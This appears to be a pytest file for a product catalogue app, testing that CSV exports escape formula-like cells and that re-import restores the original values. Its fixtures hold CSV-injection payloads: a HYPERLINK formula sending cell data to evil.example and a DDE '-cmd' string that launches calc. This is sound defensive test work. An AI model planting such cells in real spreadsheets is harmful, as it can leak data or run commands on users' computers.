"""Product exports neutralise cells a spreadsheet would run as formulas, and the
importer reads its own exports back unchanged (docs/spreadsheets.md "Formulas in
cells")."""

import csv
import io

import pytest

from purei.catalogue.models import Product, Variant
from purei.catalogue.spreadsheets import products_export, products_import
from purei.catalogue.spreadsheets.formats import PUREI_PRODUCT_COLUMNS
from purei.members.models import Member

HEADER = [
    *PUREI_PRODUCT_COLUMNS,
    "sku",
    "variant_name",
    "option:size",
    "price",
    "stock_policy",
    "stock",
    "lead_time_days",
    "weight_grams",
]
TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Kūmara")'
# One product of two variants whose text starts like formulas, and a plain one.
ROWS = [
    [
        "kumara",
        TITLE,
        "+Kūmara",
        "-cmd|' /C calc'!A0\nKai",
        "fresh-produce",
        "@kai, honey",
        "live",
        "@Maker",
        "",
        "no",
        "no",
        "no",
        "=A1",
        "+Big",
        "-Large",
        "12.50",
        "tracked",
        "5",
        "",
        "300",
    ],
    ["kumara", *[""] * 11, "@B2", "=Small", "@Small", "4.00", "unlimited", "0", "2"],
    [
        *(
            "honey",
            "Honey",
            "",
            "Plain",
            "honey",
            "",
            "draft",
            "",
            "",
            "no",
            "no",
            "no",
        ),
        *("H-1", "250 g", "250 g", "9.00", "tracked", "3", "", ""),
    ],
]


def _data() -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows([HEADER, *ROWS])
    return out.getvalue().encode()


def _state(member: Member, fmt: str = "purei") -> list[tuple[object, ...]]:
    """What a layout carries: Shopify's has no te reo title, and names a variant
    by its option values."""
    shopify = fmt == "shopify"
    return [
        (
            v.product.slug,
            v.product.title_en,
            "" if shopify else v.product.title_mi,
            v.product.description_en,
            v.product.maker,
            sorted(t.name for t in v.product.tags.all()),
            v.sku,
            " / ".join(v.options.values()) if shopify else v.name,
            v.options,
            v.price_cents,
            v.stock_policy,
            v.stock,
        )
        for v in Variant.objects.filter(member=member)
        .select_related("product")
        .order_by("sku")
    ]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def imported(member_a_owner, member_a):
    result = products_import(actor=member_a_owner, member=member_a, data=_data())
    assert result.ok, result.problems
    product = Product.objects.get(member=member_a, slug="kumara")
    assert product.title_en == TITLE  # stored as given; only the CSV is guarded
    return member_a


def test_purei_export_neutralises_formula_cells(member_a_owner, imported):
    # when
    text = products_export(actor=member_a_owner, member=imported, fmt="purei")
    # then
    rows = {row["sku"]: row for row in _cells(text)}
    big = rows["'=A1"]
    assert big["title_en"] == "'" + TITLE
    assert big["title_mi"] == "'+Kūmara"
    assert big["description_en"].startswith("'-cmd|")
    assert big["maker"] == "'@Maker"
    assert big["tags"].startswith("'@kai")
    assert big["variant_name"] == "'+Big"
    assert big["option:size"] == "'-Large"
    assert rows["'@B2"]["variant_name"] == "'=Small"
    # plain text and numbers are left alone
    assert rows["H-1"]["title_en"] == "Honey"
    assert rows["H-1"]["price"] == "9.00"
    assert list(rows["H-1"])[: len(PUREI_PRODUCT_COLUMNS)] == list(
        PUREI_PRODUCT_COLUMNS
    )


def test_shopify_export_neutralises_formula_cells(member_a_owner, imported):
    # when
    text = products_export(actor=member_a_owner, member=imported, fmt="shopify")
    # then
    rows = {row["Variant SKU"]: row for row in _cells(text)}
    big = rows["'=A1"]
    assert big["Title"] == "'" + TITLE
    assert big["Vendor"] == "'@Maker"
    assert big["Tags"].startswith("'@kai")
    assert big["Option1 Value"] == "'-Large"
    assert rows["'@B2"]["Option1 Value"] == "'@Small"
    assert rows["H-1"]["Title"] == "Honey"


@pytest.mark.parametrize("fmt", ["purei", "shopify"])
def test_exported_formula_cells_import_back_unchanged(fmt, member_a_owner, imported):
    # given
    before = _state(imported, fmt)
    text = products_export(actor=member_a_owner, member=imported, fmt=fmt)
    Product.objects.filter(member=imported).delete()
    # when
    result = products_import(
        actor=member_a_owner, member=imported, data=text.encode(), fmt=fmt
    )
    # then the protective quotes are gone again
    assert result.ok, result.problems
    assert _state(imported, fmt) == before
